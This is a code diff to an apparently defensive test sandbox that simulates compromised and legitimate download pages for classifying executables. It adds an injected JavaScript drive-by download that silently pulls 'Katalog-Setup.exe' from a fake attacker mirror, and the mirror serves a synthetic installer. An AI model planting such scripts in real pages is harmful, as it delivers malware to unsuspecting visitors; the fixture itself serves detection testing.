@@ -18,7 +18,8 @@ Point 8, executables alone are not compromise:
   octet-stream on another vendor): suspicious, no incident;
 - the same kinds of installer with a SHA-256 on the known-bad list, or matched by a
   detection rule (an IoT-bot ELF, a PE carrying a PowerShell cradle): malicious;
-- a compromised page that makes visitors download an installer: malicious.
+- a compromised page that makes visitors download an installer from elsewhere:
+  malicious; the vendor's own "download starts now" page: suspicious.
 
 The "seen" memory of first-visit payloads is the sandbox's attacker log, which
 ``Sandbox.reset()`` clears after every test. Everything is synthetic and inert.
@@ -179,7 +180,7 @@ async def two_download(env: Env) -> Result:
     if env.path == "/download/":
         scripts = ""
         if env.compromised:
-            url = f"{env.own}/wp-content/uploads/2024/05/Katalog-Setup.exe"
+            url = f"{env.atk('mirror')}/get/Katalog-Setup.exe"
             scripts = (
                 "<script>window.addEventListener('load',function(){setTimeout(function(){"
                 f"var a=document.createElement('a');a.href='{url}';a.download='Katalog-Setup.exe';"
@@ -290,12 +291,39 @@ def _serve(table: dict[str, tuple[str, int, str, str | None]], env: Env) -> Repl
     )
 
 
+@behaviour("attacker-mirror")
+async def attacker_mirror(env: Env) -> Result:
+    """A fake download mirror that a compromised page pushes an installer from."""
+    if env.path != "/get/Katalog-Setup.exe":
+        return None
+    _log(env, "download")
+    return Reply(
+        installer("pe", 41),
+        content_type="application/x-msdownload",
+        headers={"Content-Disposition": 'attachment; filename="Katalog-Setup.exe"'},
+    )
+
+
 @behaviour("incidents-vendor")
 async def vendor(env: Env) -> Result:
-    """A software vendor: a download page linking to its installers, and the files."""
+    """A software vendor: a download page linking to its installers, a "your download
+    starts now" page that fetches its own installer without a click, and the files."""
     served = _serve(VENDOR_FILES, env)
     if served is not None:
         return served
+    if env.path == "/download/start/":
+        url = f"{env.own}/files/QuillPad-Setup-4.2.1.exe"
+        scripts = (
+            "<script>window.addEventListener('load',function(){setTimeout(function(){"
+            f"var a=document.createElement('a');a.href='{url}';"
+            "a.download='QuillPad-Setup-4.2.1.exe';document.body.appendChild(a);a.click();"
+            "},500);});</script>"
+        )
+        content = (
+            "<h2>Thank you for downloading QuillPad</h2><p>Your download starts in a "
+            f'moment. If it does not, <a href="{url}">click here</a>.</p>'
+        )
+        return page(env, content, scripts=scripts, title="Downloading QuillPad")
     if env.path != "/download/":
         return common_files(env)
     links = "".join(
